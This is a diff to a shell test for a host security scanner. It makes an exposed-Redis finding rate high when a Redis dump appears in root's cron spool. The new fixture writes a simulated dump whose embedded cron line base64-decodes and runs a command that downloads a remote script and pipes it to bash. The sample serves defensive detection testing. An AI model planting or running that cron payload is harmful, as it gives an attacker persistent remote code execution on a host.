@@ -7,7 +7,9 @@
 #    read-only host mounts (low, said to be a monitoring agent's);
 #    /etc/docker/daemon.json opens tcp://0.0.0.0:2375 (high: a container
 #    already hands out the host); /etc/redis/redis.conf binds 0.0.0.0 with
-#    protected-mode no and no password (medium).  A clean image (Debian's
+#    protected-mode no and no password (high beside the Redis dump that
+#    Spinning YARN's CONFIG SET dir leaves in the cron spool, medium
+#    without it).  A clean image (Debian's
 #    stock redis.conf, no containers) gives nothing.  The metadata service
 #    is never probed in an image.
 # 2. The live host, default options: the metadata service is not probed
@@ -74,6 +76,15 @@ port 6379
 daemonize yes
 EOF
 
+# what Spinning YARN's Redis commands leave (config set dir
+# /var/spool/cron/crontabs; dbfilename root; save): a Redis dump with a
+# job line between the binary noise
+mkdir -p "$R/var/spool/cron/crontabs"
+{
+	printf 'REDIS0009\xfa\tredis-ver\x055.0.7\xfe\x00\xfb\x04\x00\x00\x07backup1@V\n\n\n\n'
+	printf '*/2 * * * * echo Y2QxIGh0dHA6Ly9iLjktOS04LmNvbS9icnlzai9iLnNoCg==|base64 -d|bash|bash \n'
+	printf '\n\n\n\xff\x8f\x1d\xb3\x00\x00\x00\x00'
+} >"$R/var/spool/cron/crontabs/root"
 rm_json "$T/bad.json" --root "$R" --facts
 B=$T/bad.json
 ctr_f() {  # ID: the RM-EXP-003 findings about it
@@ -117,9 +128,15 @@ F=$(jq -c '[.findings[] | select(.rule.id == "RM-EXP-002")]' "$B")
 [ "$(jq length <<<"$F")" = 1 ] || { dump_findings "$B" >&2; fail "expected one RM-EXP-002 from redis.conf"; }
 F=$(jq -c '.[0]' <<<"$F")
 F_WHAT="RM-EXP-002 redis.conf"
-f_eq .severity medium
+f_eq .severity high
 f_eq .evidence.guard none
 f_eq .evidence.config_line 3
+f_eq .evidence.redis_dump_in_cron /var/spool/cron/crontabs/root
+# without the dump, the open config alone is medium
+rm -f "$R/var/spool/cron/crontabs/root"
+rm_json "$T/bad2.json" --root "$R"
+jq_true "$T/bad2.json" '[.findings[] | select(.rule.id == "RM-EXP-002" and .severity == "medium")] | length == 1' \
+	"the open redis.conf without a dump in cron is not medium: $(dump_findings "$T/bad2.json")"
 jq_true "$B" '[.scan.skipped[] | select(.check == "imds" and (.reason | test("disk image")))] | length == 1' \
 	"an image scan does not say the metadata service was not probed"
 jq_true "$B" '.facts.imds.probed == false' "an image scan probed the metadata service"
